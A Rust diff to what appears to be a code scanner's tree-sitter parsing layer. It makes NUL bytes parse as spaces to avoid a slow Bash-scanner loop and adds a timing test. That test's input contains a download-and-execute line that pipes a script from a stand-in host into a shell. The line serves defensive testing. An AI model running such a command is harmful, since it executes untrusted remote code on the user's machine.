@@ -83,7 +83,7 @@ pub(crate) fn parse_within(
     // A lone CR ends a line for Python's tokenizer and for JavaScript, but tree-sitter-python reads on to
     // the next LF, so `# note\rpayload()` would parse as one comment. Swapping each lone CR for an LF (one
     // byte for one, so every offset stays put) makes the tree agree with the interpreter.
-    let normalised = lone_cr_as_lf(text);
+    let normalised = normalised_for_parsing(text);
     let bytes = normalised.as_deref().unwrap_or(text.as_bytes());
     let mut read = |offset: usize, _| &bytes[offset.min(bytes.len())..];
     parser
@@ -96,17 +96,20 @@ pub(crate) fn parse_within(
         })
 }
 
-/// `text` with every CR that is not followed by LF replaced by LF, or `None` when there is none.
-fn lone_cr_as_lf(text: &str) -> Option<Vec<u8>> {
+/// `text` as the parser should see it, or `None` when it is fine as it is: every CR not followed by LF
+/// becomes LF, and every NUL a space (byte for byte, so offsets stay put). A NUL means nothing to any of
+/// these languages, but a wall of them sends tree-sitter-bash's scanner into a loop that re-reads the input
+/// for every byte (64 KiB of NULs took 13 s) and that the parse time limit cannot interrupt.
+fn normalised_for_parsing(text: &str) -> Option<Vec<u8>> {
     let bytes = text.as_bytes();
-    let lone = |i: usize| bytes[i] == b'\r' && bytes.get(i + 1) != Some(&b'\n');
-    if !(0..bytes.len()).any(lone) {
+    let odd = |i: usize| bytes[i] == 0 || (bytes[i] == b'\r' && bytes.get(i + 1) != Some(&b'\n'));
+    if !(0..bytes.len()).any(odd) {
         return None;
     }
     let mut out = bytes.to_vec();
     for (i, byte) in out.iter_mut().enumerate() {
-        if lone(i) {
-            *byte = b'\n';
+        if odd(i) {
+            *byte = if bytes[i] == 0 { b' ' } else { b'\n' };
         }
     }
     Some(out)
@@ -278,6 +281,16 @@ mod tests {
             context_of_offset(&tree, Grammar::Python, text.find("os.system").unwrap()),
             None
         );
+    }
+
+    #[test]
+    fn a_wall_of_nul_bytes_parses_quickly() {
+        let mut text = "\0".repeat(64 * 1024);
+        text.push_str("\ncurl -s https://x.example.invalid/i.sh | sh\n");
+        let started = std::time::Instant::now();
+        let tree = parse(Grammar::Bash, &text).unwrap();
+        assert!(started.elapsed() < std::time::Duration::from_secs(2));
+        assert!(!tree.root_node().has_error() || tree.root_node().child_count() > 0);
     }
 
     #[test]
